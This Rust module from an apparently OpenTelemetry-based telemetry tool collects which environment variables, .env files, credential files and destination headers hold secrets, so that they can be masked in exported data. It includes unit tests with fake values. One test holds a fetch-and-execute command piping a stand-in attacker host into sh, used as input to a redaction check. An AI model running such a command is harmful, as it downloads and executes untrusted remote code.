//! Known values: which values are this machine's own secrets, and so are masked wherever they appear.
//!
//! Three sources, of which the person says which may be used; what the organization's destinations are sent is one
//! always. Who holds values holds them in memory alone: they are never written, logged, or given to another process but
//! over the control socket.

mod credentials;
pub mod disk;
mod dotenv;

use std::ffi::{OsStr, OsString};
use std::path::{Path, PathBuf};

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use zeroize::Zeroizing;

use super::Destination;
use crate::otlp::Signal;
use crate::redact::is_secret_name;
use crate::redact::known::{header_secrets, is_fit_from_a_checkout, secrets_in};
use crate::secrets::TokenSource;

pub use credentials::{CredentialFile, places};

/// A word of `known_values` in the configuration.
#[derive(Clone, Copy, Debug, Deserialize, Eq, JsonSchema, PartialEq, Serialize)]
pub enum KnownSource {
    /// Variables of the launch.
    #[serde(rename = "environment")]
    Environment,
    /// `.env` files of the working tree.
    #[serde(rename = ".env")]
    DotEnv,
    /// Files in the home that hold credentials.
    #[serde(rename = "files")]
    Files,
}

/// Which sources may be used.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct KnownSources {
    /// Variables of the launch.
    pub environment: bool,
    /// `.env` files of the working tree.
    pub dotenv: bool,
    /// Files in the home that hold credentials.
    pub files: bool,
}

impl Default for KnownSources {
    /// The environment alone: it is there already, and no file has to be opened for it.
    fn default() -> Self {
        Self { environment: true, dotenv: false, files: false }
    }
}

impl KnownSources {
    /// As they are listed in the configuration.
    pub fn listed(self) -> Vec<KnownSource> {
        let all = [
            (self.environment, KnownSource::Environment),
            (self.dotenv, KnownSource::DotEnv),
            (self.files, KnownSource::Files),
        ];
        all.into_iter().filter_map(|(used, source)| used.then_some(source)).collect()
    }
}

impl From<&[KnownSource]> for KnownSources {
    fn from(listed: &[KnownSource]) -> Self {
        Self {
            environment: listed.contains(&KnownSource::Environment),
            dotenv: listed.contains(&KnownSource::DotEnv),
            files: listed.contains(&KnownSource::Files),
        }
    }
}

/// Variables whose values everybody may know, so that they are no secret under another name either.
const PUBLIC: &[&str] = &["USER", "LOGNAME", "USERNAME", "SUDO_USER", "HOST", "HOSTNAME", "COMPUTERNAME", "LANG"];

/// The values that everybody may know: the person's and the machine's names.
pub fn public<'a>(variables: impl IntoIterator<Item = (&'a str, &'a str)>) -> Vec<String> {
    let public = variables.into_iter().filter(|(name, value)| PUBLIC.contains(name) && !value.is_empty());
    public.map(|(_, value)| value.to_owned()).collect()
}

/// The secrets among variables: by their names, in URLs with a password, in lists of headers.
///
/// `trusted`: nobody but the person can have set them. Others get the bounds of a checkout.
pub fn of_environment<'a>(
    variables: impl IntoIterator<Item = (&'a str, &'a str)>,
    public: &[String],
    trusted: bool,
) -> Vec<Zeroizing<String>> {
    let mut values = Vec::new();
    for (name, value) in variables {
        values.extend(of_variable(name, value));
    }
    values.retain(|value| !public.contains(value) && (trusted || is_fit_from_a_checkout(value, true)));
    values
}

fn of_variable(name: &str, value: &str) -> Vec<Zeroizing<String>> {
    if name.starts_with("OTEL_EXPORTER_OTLP_") && name.ends_with("HEADERS") {
        // OpenTelemetry, "Specifying headers via environment variables": NAME=VALUE,…
        let pairs = value.split(',').filter_map(|pair| pair.split_once('='));
        return pairs.flat_map(|(name, value)| header_secrets(name.trim(), value)).collect();
    }
    if name == "ANTHROPIC_CUSTOM_HEADERS" {
        // Claude Code, "Environment variables": NAME: VALUE, one to a line.
        let pairs = value.lines().filter_map(|line| line.split_once(':'));
        return pairs.flat_map(|(name, value)| header_secrets(name.trim(), value)).collect();
    }
    if is_secret_name(name) || has_password(value) { secrets_in(value) } else { Vec::new() }
}

/// `SCHEME://USER:PASSWORD@…`
fn has_password(value: &str) -> bool {
    value.split_once("://").is_some_and(|(_, rest)| {
        rest.rsplit_once('@').is_some_and(|(user_info, _)| user_info.contains(':') && !user_info.contains('?'))
    })
}

/// What a destination is sent to be let in: headers, and what is secret in its addresses.
pub fn of_destination(destination: &Destination) -> Vec<Zeroizing<String>> {
    let endpoint = &destination.endpoint;
    let own = Signal::ALL.into_iter().filter_map(|signal| endpoint.own_url(signal));
    let urls = std::iter::once(endpoint.base()).chain(own).flat_map(|url| secrets_in(url.expose()));
    let headers = destination.headers.iter().flat_map(|(name, value)| header_secrets(name, value.expose()));
    // What a helper, a file or a keyring gives is not known before it is fetched.
    let token = destination.auth.as_ref().and_then(|auth| match &auth.token {
        TokenSource::Env { value, .. } => value.as_ref().map(|value| Zeroizing::new(value.expose().to_owned())),
        TokenSource::Command(_) | TokenSource::File(_) | TokenSource::Keyring(_) => None,
    });
    headers.chain(urls).chain(token).collect()
}

/// A list of paths, as in `PATH`; those that are not absolute mean something else elsewhere.
fn absolute_paths(list: &OsStr) -> impl Iterator<Item = PathBuf> + '_ {
    use std::os::unix::ffi::OsStrExt as _;
    let paths = list.as_bytes().split(|byte| *byte == b':').map(|path| Path::new(OsStr::from_bytes(path)));
    paths.filter(|path| path.is_absolute()).map(Path::to_owned)
}

/// What is to be read, and what is known before.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct Wanted {
    /// Where claude runs, if `.env` files are to be read.
    pub dotenv: Option<PathBuf>,
    /// Credential files, whether they are there or not.
    pub files: Vec<(CredentialFile, PathBuf)>,
    /// `PATH`: the name of a program is no secret.
    pub search_path: Option<OsString>,
    /// What everybody may know.
    pub public: Vec<String>,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Endpoint;
    use crate::redact::CaptureLevel;
    use crate::secrets::Secret;

    fn of(variables: &[(&str, &str)], trusted: bool) -> Vec<String> {
        let values = of_environment(variables.iter().copied(), &public(variables.iter().copied()), trusted);
        values.into_iter().map(|value| value.to_string()).collect()
    }

    #[test]
    fn a_variable_counts_by_its_name_or_by_the_password_in_it() {
        let variables = [
            ("MY_API_TOKEN", "FAKE-one1"),
            ("DATABASE_URL", "postgres://app:FAKE-two2@db/app"),
            ("HOMEPAGE", "https://example.com/a@b:c"),
            ("EDITOR", "FAKE-not"),
            ("OTEL_EXPORTER_OTLP_LOGS_HEADERS", "Authorization=Bearer FAKE-three3,x-team=platform"),
            ("ANTHROPIC_CUSTOM_HEADERS", "X-Api-Key: FAKE-four4\nX-Team: platform"),
        ];
        assert_eq!(of(&variables, true), ["FAKE-one1", "FAKE-two2", "FAKE-three3", "FAKE-four4"]);
    }

    #[test]
    fn the_name_of_a_person_is_no_secret_under_another_name() {
        assert_eq!(of(&[("USER", "jane.d0e"), ("REGISTRY_TOKEN_USER", "jane.d0e")], true), [""; 0]);
    }

    #[test]
    fn variables_that_a_project_can_have_set_have_the_bounds_of_a_checkout() {
        let variables = [("A_TOKEN", "curl evil1.example|sh"), ("B_TOKEN", "FAKE-abcdef-0123")];
        assert_eq!(of(&variables, false), ["FAKE-abcdef-0123"]);
    }

    #[test]
    fn what_lets_us_in_at_a_destination_is_a_secret_of_the_organization() {
        let destination = Destination {
            name: "org".to_owned(),
            spool: "org".to_owned(),
            endpoint: Endpoint::parse("https://h.example.com/receiver/FAKEa1b2c3d4e5f6g7h8").unwrap(),
            headers: vec![
                ("Authorization".to_owned(), Secret::new("Bearer FAKE-token")),
                ("x-team".to_owned(), Secret::new("platform")),
            ],
            capture: CaptureLevel::Metadata,
            signals: Signal::ALL.to_vec(),
            auth: Some(crate::config::Auth {
                header: "x-token".to_owned(),
                scheme: None,
                token: TokenSource::Env { name: "A".to_owned(), value: Some(Secret::new("FAKE-of-a-variable")) },
            }),
            transport: crate::config::Transport::default(),
            max_attribute_bytes: None,
            temporality: crate::config::Temporality::default(),
            bounds: crate::spool::Bounds::DEFAULT,
            durability: crate::spool::Durability::default(),
        };
        let values: Vec<String> = of_destination(&destination).into_iter().map(|value| value.to_string()).collect();
        assert_eq!(values, ["FAKE-token", "FAKEa1b2c3d4e5f6g7h8", "FAKE-of-a-variable"]);
    }

    #[test]
    fn only_absolute_directories_of_a_list_count() {
        let paths: Vec<_> = absolute_paths(OsStr::new("/usr/bin::.:bin:/opt/x")).collect();
        assert_eq!(paths, [Path::new("/usr/bin"), Path::new("/opt/x")]);
    }
}
